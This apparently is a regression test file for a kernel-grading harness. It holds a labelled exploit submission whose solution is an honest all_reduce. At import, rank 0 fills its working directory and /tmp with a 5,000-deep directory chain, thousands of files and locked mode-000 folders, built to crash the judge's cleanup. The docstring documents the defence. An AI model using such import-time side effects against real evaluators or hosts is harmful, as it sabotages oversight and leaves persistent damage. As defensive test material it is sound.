"""Exploit (a scratch nobody can remove): at import, rank 0 leaves a 5,000-deep chain of directories (deeper than
Python's recursion limit), thousands of files and mode 000 directories in its working directory and in /tmp. Before:
the judge's clean-up (shutil.rmtree) raised RecursionError, and the site's runner and boot sweep left the trees on
disk for good. Defence: the group's scratch and /tmp are tmpfs mounts of the box, detached when it closes; trees on
disk are removed by evaluator/process/removal.py. The kernel itself is honest: the verdict is correct."""
import os

import torch.distributed as dist


def _chain(top, depth):
    fd = os.open(top, os.O_RDONLY)
    for _ in range(depth):
        os.mkdir("d", dir_fd=fd)
        nxt = os.open("d", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = nxt
    os.close(fd)


if int(os.environ.get("RANK", "0")) == 0:
    for top in (".", "/tmp"):
        _chain(top, 5000)
        os.makedirs(top + "/many", exist_ok=True)
        for i in range(5000):
            open(f"{top}/many/{i}", "w").close()
        os.makedirs(top + "/locked/inner", exist_ok=True)
        os.chmod(top + "/locked/inner", 0)
        os.chmod(top + "/locked", 0)


def solution(tensor):
    out = tensor.clone()
    dist.all_reduce(out)
    return out
